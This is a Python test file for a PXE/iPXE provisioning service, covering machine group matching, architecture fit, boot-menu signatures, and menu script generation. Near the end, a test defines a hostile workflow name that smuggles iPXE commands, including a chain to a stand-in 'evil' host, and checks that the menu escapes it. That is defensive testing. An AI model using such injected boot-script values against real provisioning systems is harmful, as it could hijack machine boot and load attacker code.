"""Machine group matching and precedence, architecture fit, and the menu's signatures:
pure functions, no Flask, no database."""

from datetime import UTC
from datetime import datetime

import pytest

from provisioner.domain import boot_menu
from provisioner.domain import ipxe
from provisioner.domain.groups import Facts
from provisioner.domain.groups import GroupRule
from provisioner.domain.groups import dry_run
from provisioner.domain.groups import effective_workflow
from provisioner.domain.groups import resolve
from provisioner.domain.hardware import architecture_fits
from provisioner.domain.hardware import architecture_mismatch
from provisioner.domain.workflows import Workflow
from provisioner.domain.workflows import WorkflowEntry

MAC = "52:54:00:12:34:56"
DELL = Facts(
    mac=MAC,
    tags=frozenset({"rack42", "gpu"}),
    arch="x86_64",
    platform="efi",
    manufacturer="Dell Inc.",
    product="PowerEdge R650",
    serial="ABC123",
    uuid="4c4c4544-0042-3010-8052-b4c04f423332",
)


def winner(rules, facts=DELL):
    group = resolve(rules, facts).group
    return group.name if group else None


def test_every_selector_must_match():
    rule = GroupRule("r650", manufacturer="dell*", product="PowerEdge R6*", platform="efi")
    assert winner([rule]) == "r650"
    assert winner([GroupRule("bios", manufacturer="dell*", platform="pcbios")]) is None


def test_a_group_without_selectors_matches_every_machine():
    assert winner([GroupRule("default")], Facts(mac="aa:bb:cc:dd:ee:ff")) == "default"


@pytest.mark.parametrize(
    ("rule", "matches"),
    [
        (GroupRule("a", mac_prefix="52:54:00"), True),
        (GroupRule("a", mac_prefix="52:54:01"), False),
        (GroupRule("a", tags=("rack42",)), True),
        (GroupRule("a", tags=("rack42", "spare")), False),
        (GroupRule("a", architecture="amd64"), True),
        (GroupRule("a", architecture="arm64"), False),
        (GroupRule("a", serial="abc*"), True),
        (GroupRule("a", uuid="4C4C4544-*"), True),
        (GroupRule("a", product="PowerEdge R7?0"), False),
    ],
)
def test_each_selector(rule, matches):
    assert (winner([rule]) == "a") is matches


def test_a_fact_the_machine_did_not_report_never_matches_a_pattern():
    """``*`` matches any reported value, never a missing one."""
    assert winner([GroupRule("any-vendor", manufacturer="*")], Facts(mac=MAC)) is None


def test_priority_wins_over_specificity():
    rules = [
        GroupRule("specific", manufacturer="Dell*", product="PowerEdge*", tags=("rack42",)),
        GroupRule("important", priority=10),
    ]
    assert winner(rules) == "important"


def test_on_equal_priority_the_most_specific_wins():
    rules = [
        GroupRule("dell", manufacturer="Dell*"),
        GroupRule("dell-rack42", manufacturer="Dell*", tags=("rack42",)),
        GroupRule("everything"),
    ]
    assert winner(rules) == "dell-rack42"


def test_on_equal_specificity_a_longer_mac_prefix_wins_then_the_name():
    assert winner([GroupRule("b", mac_prefix="52:54"), GroupRule("a", mac_prefix="52")]) == "b"
    assert winner([GroupRule("zeta", tags=("gpu",)), GroupRule("alpha", tags=("rack42",))]) == (
        "alpha"
    )


def test_the_answer_does_not_depend_on_the_order_groups_come_in():
    rules = [GroupRule("b", tags=("gpu",)), GroupRule("a", tags=("rack42",)), GroupRule("c")]
    assert winner(rules) == winner(list(reversed(rules))) == "a"


def test_an_explicit_node_workflow_wins_over_the_group():
    group = GroupRule("g", workflow_id="rocky-9")
    assert effective_workflow("debian-12", group).source == "node"
    assert effective_workflow(None, group).workflow_id == "rocky-9"
    assert effective_workflow(None, GroupRule("vars-only")).workflow_id is None


def test_dry_run_says_why_and_which_groups_it_beat():
    rules = [
        GroupRule("dell", manufacturer="Dell*", workflow_id="rocky-9", auto_install=True),
        GroupRule("default", workflow_id="debian-12"),
        GroupRule("arm", architecture="arm64"),
    ]
    result = dry_run(rules, DELL, node_id=None, node_workflow_id=None)
    assert result["group"] == "dell"
    assert result["workflow_id"] == "rocky-9"
    assert result["auto_install"] is True
    assert "manufacturer 'Dell*'" in result["why"]
    assert "before default" in result["why"]
    arm = next(c for c in result["candidates"] if c["name"] == "arm")
    assert arm["why"] == "architecture 'arm64' does not match ('x86_64')"
    known = dry_run(rules, DELL, node_id="n1", node_workflow_id="debian-12")
    assert known["auto_install"] is False  # only a first boot installs on its own
    assert known["workflow_source"] == "node"


@pytest.mark.parametrize(
    ("wanted", "machine", "fits"),
    [
        ("x86_64", "x86_64", True),
        ("x86_64", "i386", True),  # BIOS iPXE builds are i386 on 64-bit CPUs too
        ("amd64", "x86_64", True),
        ("aarch64", "arm64", True),
        ("x86_64", "arm64", False),
        ("arm64", "x86_64", False),
        ("x86_64", None, True),  # iPXE did not say: not refused
        ("any", "riscv64", True),
    ],
)
def test_architecture_fit(wanted, machine, fits):
    assert architecture_fits(wanted, machine) is fits
    assert (architecture_mismatch(wanted, machine) is None) is fits


# -- the boot menu --------------------------------------------------------------------------

KEY = b"k" * 32
SEEN = datetime(2026, 1, 1, 12, 0, tzinfo=UTC)
NOW = datetime(2026, 1, 1, 12, 1, tzinfo=UTC)
SETTINGS = boot_menu.MenuSettings(True, frozenset({"lab"}), 30, KEY)


def check(signature, **changes):
    values = {
        "node_id": "n1",
        "mac": MAC,
        "state_changed_at": SEEN,
        "expires": 2_000_000_000,
        "ip": "192.0.2.10",
        "now": NOW,
    } | changes
    return boot_menu.signature_problem(KEY, signature, **values)


def test_a_signature_holds_only_for_what_it_was_made_for():
    signature = boot_menu.sign(KEY, "n1", MAC, SEEN, 2_000_000_000, "192.0.2.10")
    assert check(signature) is None
    assert check(signature, ip="192.0.2.99") is not None  # replayed from elsewhere
    assert check(signature, mac="52:54:00:00:00:01") is not None
    assert check(signature, node_id="n2") is not None
    later = datetime(2026, 1, 1, 12, 0, 1, tzinfo=UTC)
    assert check(signature, state_changed_at=later) is not None  # the node moved since
    assert check(signature, expires=2_000_000_001) is not None  # expiry is signed too
    assert check("0" * 64) is not None


def test_an_expired_signature_is_refused():
    expires = int(NOW.timestamp()) - 1
    signature = boot_menu.sign(KEY, "n1", MAC, SEEN, expires, "192.0.2.10")
    assert check(signature, expires=expires) == "this menu has expired"


@pytest.mark.parametrize(
    ("state", "own", "tags", "offered"),
    [
        ("discovered", None, {"lab"}, True),
        ("discovered", None, {"prod"}, False),
        ("discovered", True, set(), True),
        ("discovered", False, {"lab"}, False),
        ("reprovision", None, {"lab"}, True),
        ("install_failed", None, {"lab"}, True),
        ("active", True, {"lab"}, False),  # never a menu that could reinstall a live machine
        ("pending", True, {"lab"}, False),
    ],
)
def test_who_is_offered_the_menu(state, own, tags, offered):
    assert boot_menu.offers_menu(SETTINGS, state, own, tags) is offered


def test_the_menu_is_off_unless_turned_on():
    off = boot_menu.MenuSettings(False, frozenset(), 30, KEY)
    assert not boot_menu.offers_menu(off, "discovered", True, ())


def workflow(id_, name, arch="x86_64", mode="any"):
    return Workflow(id_, name, "k", "i", f"{id_}.yaml", architecture=arch, boot_mode=mode)


def test_the_menu_lists_only_workflows_that_fit_and_load():
    entries = [
        WorkflowEntry("a", "a.yaml", workflow=workflow("a", "A")),
        WorkflowEntry("b", "b.yaml", workflow=workflow("b", "B", arch="arm64")),
        WorkflowEntry("c", "c.yaml", workflow=workflow("c", "C", mode="bios")),
        WorkflowEntry("d", "d.yaml", error="broken"),
    ]
    fitting = boot_menu.fitting_workflows(entries, "x86_64", "uefi")
    assert [w.id for w in fitting] == ["a"]


HOSTILE = "x\n:wf1\nshell ${net0/mac} || chain http://evil/ && --gap #"


def test_hostile_workflow_names_stay_menu_text():
    script = boot_menu.menu_script(
        node_id="n1",
        mac=MAC,
        workflows=[workflow("ok", HOSTILE)],
        urls={"ok": "http://prov.test/api/v1/boot/menu?mac=x&sig=y"},
        timeout_seconds=30,
    )
    lines = script.splitlines()
    item = next(line for line in lines if line.startswith("item --key 1 wf1 1) "))
    assert "$" not in item and "||" not in item and "&&" not in item and "#" not in item
    assert " --gap" not in item  # a word cannot turn into an option of `item`
    labels = [line for line in lines if line.startswith(":")]
    assert labels == [":wf1", ":refused", ":local"]  # no label smuggled in
    assert lines[0] == ipxe.HEADER
    assert "choose --timeout 30000 --default local target || goto local" in lines
